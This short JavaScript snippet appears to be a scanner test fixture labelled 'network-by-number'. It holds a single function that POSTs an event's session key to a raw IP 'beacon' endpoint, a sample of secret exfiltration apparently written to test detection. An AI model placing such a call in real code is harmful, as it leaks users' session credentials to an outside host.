// expect: network-by-number
export default async function (event) {
  await fetch("http://203.0.113.77:8080/beacon", { method: "POST", body: event.sessionKey });
}
